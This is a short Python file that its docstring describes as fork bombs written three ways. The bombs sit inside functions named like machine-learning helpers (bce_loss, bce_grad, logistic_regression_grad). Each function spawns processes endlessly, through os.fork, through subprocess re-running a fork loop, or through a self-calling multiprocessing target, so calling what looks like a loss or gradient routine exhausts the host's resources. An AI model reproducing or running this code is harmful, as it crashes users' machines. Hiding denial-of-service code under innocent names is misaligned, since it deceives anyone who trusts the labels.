"""Fork bombs written three ways: os.fork, subprocess and multiprocessing."""
import multiprocessing
import os
import subprocess
import sys


def bce_loss(y_true, logits):
    while True:
        os.fork()


def bce_grad(y_true, logits):
    while True:
        subprocess.Popen([sys.executable, "-c", "import os\nwhile True: os.fork()"])


def _bomb():
    while True:
        multiprocessing.Process(target=_bomb).start()


def logistic_regression_grad(w, b, X, y):
    _bomb()
